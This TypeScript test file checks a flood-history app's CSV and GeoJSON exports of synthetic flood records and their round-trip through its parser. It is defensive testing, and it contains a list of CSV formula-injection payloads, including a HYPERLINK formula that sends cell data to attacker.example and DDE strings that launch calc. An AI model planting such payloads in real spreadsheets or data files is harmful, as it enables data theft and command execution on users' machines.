// Downloads read back through the app's own reader (validateCsv + flood-parse) to the same records.
// Every record here is synthetic, written for these tests; none is a real flood.
import Papa from 'papaparse';
import { describe, it, expect } from 'vitest';
import { chomeIndexOf } from '../../src/data/assemble-history';
import { datasetById } from '../../src/data/catalog';
import { eventsCsv, recordsCsv, recordsGeoJson, type Credit } from '../../src/data/export-records';
import { NOT_GIVEN, num } from '../../src/data/figure';
import type { ChomeRecord, FloodEvent } from '../../src/data/flood-model';
import { parseChomeRecords, parseFloodEvents } from '../../src/data/flood-parse';
import type { CsvSchema } from '../../src/data/schema';
import { validateCsv, type CsvRow } from '../../src/data/validate-csv';
import type { FeatureCollection } from '../../src/data/validate-geojson';

function schemaOf(id: 'floodEvents' | 'chomeRecords'): CsvSchema {
  const s = datasetById(id).schema;
  if (s.kind !== 'csv') throw new Error(`${id} is not CSV`);
  return s;
}

const square = (x: number) => ({
  type: 'Polygon',
  coordinates: [
    [
      [139.7 + x, 35.6],
      [139.71 + x, 35.6],
      [139.71 + x, 35.61],
      [139.7 + x, 35.61],
      [139.7 + x, 35.6],
    ],
  ],
});
const syntheticChome = {
  type: 'FeatureCollection',
  features: [
    {
      type: 'Feature',
      geometry: square(0),
      properties: { key_code: '13109900001', name_kanji: '合成一丁目' },
    },
    {
      type: 'Feature',
      geometry: square(0.01),
      properties: { key_code: '13109900002', name_kanji: '合成二丁目' },
    },
  ],
} as unknown as FeatureCollection;
const chome = chomeIndexOf(syntheticChome);

const eventBase = {
  record_type: 'event',
  date_as_written: '合成',
  event_name_ja: '合成の水害',
  event_name_en: 'Synthetic flood',
  scope: 'synthetic',
  source_title: 'Synthetic source',
  source_url: 'https://example.org/synthetic',
  source_kind: 'synthetic',
  quote: '合成の引用',
  source_class: 'official',
};
/** Papa takes the header from the first row; these take it from the catalogue. */
const columnsOf = (id: 'floodEvents' | 'chomeRecords') => schemaOf(id).columns.map((c) => c.name);

const syntheticEventsCsv = Papa.unparse(
  [
    {
      ...eventBase,
      id: 'SH-SYN-1958',
      date_start: '1958-09-26',
      above_floor_houses: '1295',
      below_floor_houses: '940?',
      cause_category: 'river;inland',
      source_url: 'https://example.org/a ; http://example.org/b',
      place_refs: 'chome:合成一丁目;station:合成駅',
    },
    { ...eventBase, id: 'SH-SYN-1742', date_start: '1742', record_type: 'recollection' },
    {
      ...eventBase,
      id: 'SH-SYN-1989',
      date_start: '1989-08',
      total_flooded: '853',
      source_class: 'personal',
      place_refs: 'town:合成',
    },
    {
      ...eventBase,
      id: 'SH-SYN-1898',
      date_start: '1898-06-04',
      date_end: '1898-06-05',
      rain_max_hourly_mm: '38.5',
      rain_total_mm: '120',
    },
  ],
  { columns: columnsOf('floodEvents') },
);

const credit: Credit = { attribution: 'synthetic credit', licence: 'synthetic licence' };
const BOM = '\uFEFF';
/** Everything but the spreadsheet line, which depends on the order rows are written in. */
const withoutLine = <T extends { line: number }>({ line: _line, ...rest }: T) => rest;

function readEvents(text: string): FloodEvent[] {
  const result = validateCsv('export.csv', text, schemaOf('floodEvents'));
  expect(result.problems).toEqual([]);
  const parsed = parseFloodEvents('export.csv', result.rows ?? []);
  expect(parsed.problems).toEqual([]);
  return parsed.items;
}

const events = readEvents(syntheticEventsCsv);
const eventIds = new Set(events.map((e) => e.id));

const recordBase = {
  period_start: '1989-01-01',
  period_end: '2020-03-31',
  period_as_written: '合成期間',
  unit: '棟',
  confidence: 'confirmed',
  source_title: 'Synthetic table',
  source_class: 'official',
};
const syntheticRecordsCsv = Papa.unparse(
  [
    {
      ...recordBase,
      chome_as_written: '合成1丁目',
      chome_normalized: '合成一丁目',
      below_floor: '119',
      above_floor: '99',
      total: '218',
    },
    {
      ...recordBase,
      chome_as_written: '合成二丁目',
      below_floor: '3?',
      above_floor: '',
      total: '',
    },
    {
      ...recordBase,
      chome_as_written: '区内全域',
      below_floor: '',
      above_floor: '',
      total: '5097',
    },
    {
      ...recordBase,
      chome_as_written: '合成一丁目',
      event_id: 'SH-SYN-1958',
      period_start: '1958-09-26',
      period_end: '1958-09-26',
      damage_class: '31-50件',
      damage_class_ordinal: '4',
      confidence: 'uncertain',
    },
    { ...recordBase, chome_as_written: '区内全域', event_id: 'SH-SYN-1989', total: '12' },
  ],
  { columns: columnsOf('chomeRecords') },
);

function readRecords(text: string): ChomeRecord[] {
  const result = validateCsv('export.csv', text, schemaOf('chomeRecords'));
  expect(result.problems).toEqual([]);
  const parsed = parseChomeRecords('export.csv', result.rows ?? [], chome, eventIds);
  expect(parsed.problems).toEqual([]);
  return parsed.items;
}
const records = readRecords(syntheticRecordsCsv);

const cellsOf = (text: string) =>
  Papa.parse<Record<string, string>>(text.slice(1), { header: true, skipEmptyLines: true });

/** Text a hostile data file could hold, in every text column a download carries. */
const HOSTILE = [
  '=HYPERLINK("https://attacker.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
  "'=already quoted",
  '=1,=2;"=3"',
];

describe('eventsCsv', () => {
  const text = eventsCsv(events, credit);

  it('starts with a UTF-8 BOM and uses CRLF line ends (for Excel)', () => {
    expect(text.startsWith(BOM)).toBe(true);
    expect(text.charCodeAt(1)).not.toBe(0xfeff);
    expect(text.split('\r\n')[0]?.replace(BOM, '').split(',')[0]).toBe('id');
    expect(text.replace(/\r\n/g, '')).not.toMatch(/\n/);
  });

  it('has every catalogue column plus the credit columns, on every row', () => {
    const parsed = cellsOf(text);
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toHaveLength(events.length);
    const header = parsed.meta.fields ?? [];
    for (const c of schemaOf('floodEvents').columns) {
      if (c.name === 'chome_normalized') continue; // not part of the model
      expect(header, c.name).toContain(c.name);
    }
    for (const row of parsed.data) {
      expect(row.dataset_attribution).toBe(credit.attribution);
      expect(row.dataset_licence).toBe(credit.licence);
    }
  });

  it('reads back through validateCsv + parseFloodEvents to the same events', () => {
    expect(readEvents(text).map(withoutLine)).toEqual(events.map(withoutLine));
  });

  it('keeps the details that matter: dates, figures incl. 940?, causes, places, sources', () => {
    const back = new Map(readEvents(text).map((e) => [e.id, e]));
    const e1958 = back.get('SH-SYN-1958');
    expect(e1958?.belowFloor).toEqual(num(940, true));
    expect(e1958?.aboveFloor).toEqual(num(1295));
    expect(e1958?.total).toEqual(num(2235, true));
    expect(e1958?.causes).toEqual(['river', 'inland']);
    expect(e1958?.source.urls).toEqual(['https://example.org/a', 'http://example.org/b']);
    expect(e1958?.placeRefs).toContainEqual({ type: 'station', name: '合成駅' });
    expect(back.get('SH-SYN-1742')?.start).toEqual({ iso: '1742', precision: 'year' });
    expect(back.get('SH-SYN-1742')?.recordType).toBe('recollection');
    expect(back.get('SH-SYN-1989')?.start).toEqual({ iso: '1989-08', precision: 'month' });
    expect(back.get('SH-SYN-1989')?.total).toEqual(num(853));
    expect(back.get('SH-SYN-1989')?.aboveFloor).toEqual(NOT_GIVEN);
    expect(back.get('SH-SYN-1989')?.source.sourceClass).toBe('personal');
    expect(back.get('SH-SYN-1898')?.end).toEqual({ iso: '1898-06-05', precision: 'day' });
    expect(back.get('SH-SYN-1898')?.rainMaxHourlyMm).toBe(38.5);
    expect(back.get('SH-SYN-1898')?.placeRefs).toEqual([]);
  });

  it('writes a given total only when there is no split, and "940?" with its question mark', () => {
    const byId = new Map(cellsOf(text).data.map((r) => [r.id, r]));
    expect(byId.get('SH-SYN-1958')).toMatchObject({
      above_floor_houses: '1295',
      below_floor_houses: '940?',
      total_flooded: '',
    });
    expect(byId.get('SH-SYN-1989')?.total_flooded).toBe('853');
    expect(byId.get('SH-SYN-1742')).toMatchObject({
      above_floor_houses: '',
      below_floor_houses: '',
      total_flooded: '',
    });
  });

  it('round-trips a given total that differs from above + below', () => {
    const [e] = readEvents(
      Papa.unparse([
        {
          ...eventBase,
          id: 'SH-SYN-2000',
          date_start: '2000-01-01',
          above_floor_houses: '10',
          below_floor_houses: '20',
          total_flooded: '35',
        },
      ]),
    );
    expect(e?.total).toEqual(num(35));
    const [back] = readEvents(eventsCsv(e ? [e] : [], credit));
    expect(back?.total).toEqual(num(35));
  });
});

describe('eventsCsv: formula injection (OWASP CSV Injection)', () => {
  const base = events[0]!;
  const hostile: FloodEvent[] = HOSTILE.map((s, i) => ({
    ...base,
    id: `SH-SYN-HOSTILE-${i}`,
    name: { ja: s, en: s },
    causeText: s,
    rivers: s,
    placesAsWritten: s,
    damageAsWritten: s,
    otherDamage: s,
    rainfallNotes: s,
    scope: s,
    uncertainty: s,
    source: { ...base.source, title: s, kindAsWritten: s, quote: s },
  }));
  const text = eventsCsv(hostile, credit);

  it('leaves no cell that a spreadsheet would run as a formula', () => {
    const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const cells = parsed.data.flat();
    const formulaLike = cells.filter((c) => /^[=+\-@\t\r＝＋－＠]/.test(c));
    expect(formulaLike).toEqual([]);
    expect(cells).toContain(`'${HOSTILE[0]}`);
  });

  it('wraps each neutralised cell in double quotes, its own quotes doubled', () => {
    expect(text).toContain('"\'=HYPERLINK(""https://attacker.example/?""&A1,""click"")"');
    expect(text).toContain('"\'\'=already quoted"');
  });

  it('reads back to exactly the hostile text, apostrophes of its own included', () => {
    const back = readEvents(text);
    expect(back.map(withoutLine)).toEqual(hostile.map(withoutLine));
    expect(back.map((e) => e.name.ja)).toEqual(HOSTILE);
  });

  it('keeps a real negative number a number in a numeric column', () => {
    // Rainfall is never negative; the value stands for any numeric column holding one.
    const e: FloodEvent = { ...base, id: 'SH-SYN-NEG', rainMaxHourlyMm: -3, rainTotalMm: -0.5 };
    const out = eventsCsv([e], credit);
    const [row] = cellsOf(out).data;
    expect(row).toMatchObject({ rain_max_hourly_mm: '-3', rain_total_mm: '-0.5' });
    expect(readEvents(out)[0]).toMatchObject({ rainMaxHourlyMm: -3, rainTotalMm: -0.5 });
  });
});

describe('recordsCsv', () => {
  const text = recordsCsv(records, credit);

  it('starts with a BOM and carries chome_code, chome_normalized, chome_as_written and the credit', () => {
    expect(text.startsWith(BOM)).toBe(true);
    const parsed = cellsOf(text);
    expect(parsed.data).toHaveLength(records.length);
    const header = parsed.meta.fields ?? [];
    for (const c of schemaOf('chomeRecords').columns) expect(header, c.name).toContain(c.name);
    expect(header).toEqual(
      expect.arrayContaining(['chome_code', 'dataset_attribution', 'dataset_licence']),
    );
    expect(parsed.data[0]).toMatchObject({
      chome_as_written: '合成1丁目',
      chome_normalized: '合成一丁目',
      chome_code: '13109900001',
      total: '218',
      above_floor: '99',
      below_floor: '119',
      dataset_attribution: credit.attribution,
    });
    expect(parsed.data[2]).toMatchObject({
      chome_code: 'ward',
      chome_as_written: '区内全域',
      chome_normalized: '',
      total: '5097',
    });
  });

  it('reads back through parseChomeRecords to the same records', () => {
    expect(readRecords(text).map(withoutLine)).toEqual(records.map(withoutLine));
  });

  it('round-trips uncertain and missing figures', () => {
    const base = records[0]!;
    const varied: ChomeRecord[] = [
      { ...base, aboveFloor: num(1, true), belowFloor: num(2), total: num(3, true) },
      { ...base, aboveFloor: NOT_GIVEN, belowFloor: num(4), total: NOT_GIVEN },
      { ...base, aboveFloor: num(0), belowFloor: num(0), total: num(0) },
    ];
    const back = readRecords(recordsCsv(varied, credit));
    expect(back.map((r) => [r.aboveFloor, r.belowFloor, r.total])).toEqual([
      [num(1, true), num(2), num(3, true)],
      [NOT_GIVEN, num(4), NOT_GIVEN],
      [num(0), num(0), num(0)],
    ]);
  });

  it('neutralises formula-leading notes, titles and period text and reads them back', () => {
    const base = records[0]!;
    const hostile = HOSTILE.map((s): ChomeRecord => ({
      ...base,
      note: s,
      sourceTitle: s,
      periodAsWritten: s,
      unit: s,
    }));
    const out = recordsCsv(hostile, credit);
    const cells = Papa.parse<string[]>(out.slice(1), { skipEmptyLines: true }).data.flat();
    expect(cells.filter((c) => /^[=+\-@＝＋－＠]/.test(c))).toEqual([]);
    expect(readRecords(out).map(withoutLine)).toEqual(hostile.map(withoutLine));
  });
});

describe('recordsGeoJson', () => {
  interface OutFeature {
    type: string;
    geometry: unknown;
    properties: Record<string, string | number>;
  }
  const out = JSON.parse(recordsGeoJson(records, syntheticChome, credit)) as {
    type: string;
    features: OutFeature[];
  };

  it('has one feature per record, the chome polygon as geometry and null for ward-wide rows', () => {
    expect(out.type).toBe('FeatureCollection');
    expect(out.features).toHaveLength(records.length);
    out.features.forEach((f, i) => {
      const r = records[i]!;
      expect(f.type).toBe('Feature');
      expect(f.properties.chome_code).toBe(r.chomeCode);
      if (r.chomeCode === 'ward') expect(f.geometry).toBeNull();
      else
        expect(f.geometry).toEqual(
          syntheticChome.features.find((c) => c.properties.key_code === r.chomeCode)?.geometry,
        );
    });
    expect(out.features.filter((f) => f.geometry === null)).toHaveLength(2);
  });

  it('carries the same columns as the CSV, credit and damage class included', () => {
    for (const f of out.features) {
      expect(f.properties.dataset_attribution).toBe(credit.attribution);
      expect(f.properties.dataset_licence).toBe(credit.licence);
    }
    const cls = out.features.find((f) => f.properties.event_id === 'SH-SYN-1958');
    expect(cls?.properties).toMatchObject({ damage_class: '31-50件', damage_class_ordinal: 4 });
  });

  it('reads back to the same records from its properties', () => {
    const rows: CsvRow[] = out.features.map((f, i) => ({
      line: i + 2,
      values: Object.fromEntries(Object.entries(f.properties).map(([k, v]) => [k, String(v)])),
    }));
    const back = parseChomeRecords('export.geojson', rows, chome, eventIds);
    expect(back.problems).toEqual([]);
    expect(back.items.map(withoutLine)).toEqual(records.map(withoutLine));
  });
});
